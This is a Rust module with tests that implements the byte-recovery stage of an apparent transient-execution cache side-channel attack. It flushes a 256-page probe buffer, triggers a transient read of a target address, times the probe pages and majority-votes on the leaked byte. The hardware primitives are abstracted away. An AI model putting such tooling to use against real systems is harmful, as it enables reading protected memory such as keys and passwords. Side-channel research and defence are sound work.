use crate::config::SamplerConfig;
use crate::platform::Platform;
use crate::probe_buffer::ProbeBuffer;
use crate::scores::{AccessTimes, ScoreVector};
use crate::target::TargetAddr;
use log::{debug, trace};
use serde::Serialize;

/// Outcome of sampling one target address.
#[derive(Clone, Debug, Serialize)]
pub struct Sample {
    /// The sampled address
    pub addr: TargetAddr,
    /// The recovered byte, chosen by majority vote
    pub byte: u8,
    /// The value each round voted for, in round order
    pub votes: Vec<u8>,
    /// Vote tally over all rounds
    pub scores: ScoreVector,
}

impl Sample {
    /// Returns `true` if every round voted for the same value.
    pub fn is_unanimous(&self) -> bool {
        self.votes.iter().all(|&v| v == self.byte)
    }
}

/// Recovers bytes through repeated leak/probe rounds and majority voting.
///
/// Each call to [`sample`](ByteSampler::sample) runs `config.samples` rounds.
/// A round evicts the probe buffer, performs one transient read of the
/// target, times all 256 probe pages, and votes for the fastest one. The
/// candidate with the most votes is returned. Nothing is carried over from
/// one target address to the next.
///
/// Failures are statistical: a round whose transient read aborted or was
/// drowned in noise simply votes for the wrong page.
///
/// # Type Parameters
///
/// * `P` - Platform providing the cache and leak capabilities (implements [`Platform`])
pub struct ByteSampler<P: Platform> {
    platform: P,
    config: SamplerConfig,
}

impl<P: Platform> ByteSampler<P> {
    /// Creates a sampler with the default configuration.
    pub fn new(platform: P) -> Self {
        Self::with_config(platform, SamplerConfig::default())
    }

    /// Creates a sampler with the given configuration.
    pub fn with_config(platform: P, config: SamplerConfig) -> Self {
        ByteSampler { platform, config }
    }

    /// Returns the sampler configuration.
    pub fn config(&self) -> &SamplerConfig {
        &self.config
    }

    /// Returns the underlying platform.
    pub fn platform(&self) -> &P {
        &self.platform
    }

    /// Consumes the sampler, returning the platform.
    pub fn into_platform(self) -> P {
        self.platform
    }

    /// Recovers the byte at `target`.
    ///
    /// Always returns some byte; it may be wrong under noise. A true zero
    /// byte is only ever reported through the "no page touched" outcome.
    ///
    /// # Safety
    ///
    /// Either `target` must be readable, or the platform must contain the
    /// fault raised by reading it.
    pub unsafe fn sample_byte(&self, target: TargetAddr, buffer: &mut ProbeBuffer) -> u8 {
        unsafe { self.sample(target, buffer) }.byte
    }

    /// Recovers the byte at `target` and reports how each round voted.
    ///
    /// # Safety
    ///
    /// See [`sample_byte`](ByteSampler::sample_byte).
    pub unsafe fn sample(&self, target: TargetAddr, buffer: &mut ProbeBuffer) -> Sample {
        let mut scores = ScoreVector::new();
        let mut votes = Vec::with_capacity(self.config.samples);
        for round in 0..self.config.samples {
            let times = unsafe { self.round(target, buffer) };
            let vote = times.fastest();
            trace!(
                "{:?} round {}: page 0x{:02x} took {} cycles",
                target,
                round,
                vote,
                times.get(vote)
            );
            scores.vote(vote);
            votes.push(vote);
        }
        let byte = scores.best();
        debug!("{:?}: 0x{:02x} (votes {:02x?})", target, byte, votes);
        Sample {
            addr: target,
            byte,
            votes,
            scores,
        }
    }

    /// One leak attempt followed by a timing pass over every probe page.
    unsafe fn round(&self, target: TargetAddr, buffer: &ProbeBuffer) -> AccessTimes {
        unsafe { self.platform.leak(target, buffer, self.config.zero_retries) };
        AccessTimes::from_fn(|value| unsafe { self.platform.probe(buffer.page(value)) })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::RetryBound;
    use crate::platform::{CacheFlusher, TimingProbe, TransientLeak};
    use std::cell::{Cell, RefCell};
    use std::collections::HashSet;

    /// Warms the pages listed in `rounds`, one entry per leak attempt.
    struct Scripted {
        rounds: Vec<Option<u8>>,
        round: Cell<usize>,
        warm: RefCell<HashSet<usize>>,
        flushes: Cell<usize>,
    }

    impl Scripted {
        fn new(rounds: Vec<Option<u8>>) -> Self {
            Scripted {
                rounds,
                round: Cell::new(0),
                warm: RefCell::new(HashSet::new()),
                flushes: Cell::new(0),
            }
        }
    }

    impl CacheFlusher for Scripted {
        unsafe fn flush(&self, addr: *const u8) {
            self.flushes.set(self.flushes.get() + 1);
            self.warm.borrow_mut().remove(&(addr as usize));
        }
    }

    impl TimingProbe for Scripted {
        unsafe fn probe(&self, addr: *const u8) -> u64 {
            if self.warm.borrow_mut().remove(&(addr as usize)) {
                40
            } else {
                300
            }
        }
    }

    impl TransientLeak for Scripted {
        unsafe fn transient_read(&self, _: TargetAddr, buffer: &ProbeBuffer, _: RetryBound) {
            let round = self.round.get();
            self.round.set(round + 1);
            if let Some(value) = self.rounds[round % self.rounds.len()] {
                self.warm.borrow_mut().insert(buffer.page(value) as usize);
            }
        }
    }

    #[test]
    fn test_unanimous_constant_page() -> anyhow::Result<()> {
        let mut buffer = ProbeBuffer::new()?;
        let sampler = ByteSampler::new(Scripted::new(vec![Some(0x41)]));
        let sample = unsafe { sampler.sample(TargetAddr::new(0), &mut buffer) };
        assert_eq!(sample.byte, 0x41);
        assert_eq!(sample.votes, vec![0x41; 3]);
        assert!(sample.is_unanimous());
        assert_eq!(sample.scores.get(0x41), 3);
        Ok(())
    }

    #[test]
    fn test_majority_outvotes_noise() -> anyhow::Result<()> {
        let mut buffer = ProbeBuffer::new()?;
        let sampler = ByteSampler::new(Scripted::new(vec![Some(0x75), Some(0x13), Some(0x75)]));
        let sample = unsafe { sampler.sample(TargetAddr::new(0), &mut buffer) };
        assert_eq!(sample.byte, 0x75);
        assert!(!sample.is_unanimous());
        Ok(())
    }

    #[test]
    fn test_tie_resolves_to_lowest() -> anyhow::Result<()> {
        // round one warms page 1, round two touches nothing and votes for page 0
        let mut buffer = ProbeBuffer::new()?;
        let config = SamplerConfig {
            samples: 2,
            ..Default::default()
        };
        let sampler = ByteSampler::with_config(Scripted::new(vec![Some(1), None]), config);
        let sample = unsafe { sampler.sample(TargetAddr::new(0), &mut buffer) };
        assert_eq!(sample.votes, vec![1, 0]);
        assert_eq!(sample.scores.get(0), 1);
        assert_eq!(sample.scores.get(1), 1);
        assert_eq!(sample.byte, 0);
        Ok(())
    }

    #[test]
    fn test_every_round_flushes_all_pages() -> anyhow::Result<()> {
        let mut buffer = ProbeBuffer::new()?;
        let sampler = ByteSampler::new(Scripted::new(vec![Some(7)]));
        unsafe { sampler.sample_byte(TargetAddr::new(0), &mut buffer) };
        assert_eq!(sampler.platform().flushes.get(), 3 * 256);
        Ok(())
    }

    #[test]
    fn test_no_state_between_targets() -> anyhow::Result<()> {
        let mut buffer = ProbeBuffer::new()?;
        let sampler = ByteSampler::new(Scripted::new(vec![
            Some(0x61),
            Some(0x61),
            Some(0x61),
            Some(0x62),
            Some(0x62),
            Some(0x62),
        ]));
        let a = unsafe { sampler.sample_byte(TargetAddr::new(0x1000), &mut buffer) };
        let b = unsafe { sampler.sample_byte(TargetAddr::new(0x1001), &mut buffer) };
        assert_eq!((a, b), (0x61, 0x62));
        Ok(())
    }
}
